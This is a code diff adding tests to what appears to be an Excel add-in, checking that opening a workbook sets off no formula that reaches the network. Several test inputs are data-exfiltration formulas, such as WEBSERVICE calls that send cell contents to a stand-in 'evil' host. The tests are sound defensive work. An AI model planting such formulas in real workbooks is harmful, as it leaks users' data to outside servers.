@@ -211,6 +211,17 @@ def test_opening_enters_once_what_only_hides_it(excel: Excel) -> None:
         assert "entered anew" not in str(excel.app.StatusBar)
 
 
+def test_what_opening_takes_for_bound_is_entered_once_by_refresh(excel: Excel) -> None:
+    sheet = excel.workbook.sheet("Data")
+    sheet.Range("A1").Formula2 = BETA
+    sheet.load("A2", f"=ROUND({BETA[1:]},2)")
+    sheet.load("A3", HIDING, value=0.93)  # which a program has added since
+    ribbon.run("opened", excel.desktop)
+    assert [sheet.cell((row, 1)).bound for row in (2, 3)] == [True, False]
+    ribbon.run("refresh_sheet", excel.desktop)
+    assert sheet.cell((3, 1)).bound
+
+
 @pytest.mark.parametrize("protected", ["Data", "Other"])
 def test_opening_leaves_a_protected_sheet_as_it_is(excel: Excel, protected: str) -> None:
     """Not even calculated: it keeps the values of the file, and Refresh names it."""
@@ -221,6 +232,30 @@ def test_opening_leaves_a_protected_sheet_as_it_is(excel: Excel, protected: str)
     values = {name: excel.workbook.sheet(name).cell((1, 1)).value for name in ("Data", "Other")}
     assert values.pop(protected) == 0.93
     assert list(values.values()) == [1.5]
+
+
+@pytest.mark.parametrize(
+    ("text", "value"),
+    [
+        (f'{BETA}+WEBSERVICE("http://evil/?"&A1)', 0.93),  # which calculating would have ask
+        (f'{BETA}+WEBSERVICE("http://evil/?"&A1)', "#NAME?"),
+        (f'=IF(A9=0,{BETA[1:]},WEBSERVICE("http://evil"))', 0.93),
+        (f"{BETA}+leak", 0.93),
+    ],
+)
+@pytest.mark.parametrize("other", [BETA, HIDING])
+def test_opening_sets_nothing_off_that_reaches_out(
+    excel: Excel, text: str, value: Any, other: str
+) -> None:
+    excel.workbook.Names.Add("leak", '=WEBSERVICE("http://evil")')
+    excel.workbook.sheet("Data").load("A1", text, value=value)
+    excel.workbook.sheet("Data").load("A2", other, value=0.93)
+    ribbon.run("opened", excel.desktop)
+    assert not excel.workbook.sheet("Data").cell((1, 1)).bound
+    assert excel.workbook.sheet("Data").cell((2, 1)).bound
+    assert excel.app.calculated == (["Data!A2"] if other == BETA else [])
+    ribbon.run("refresh_sheet", excel.desktop)  # which somebody has asked for
+    assert excel.workbook.sheet("Data").cell((1, 1)).bound
 
 
 @pytest.mark.parametrize("saved", [True, False])
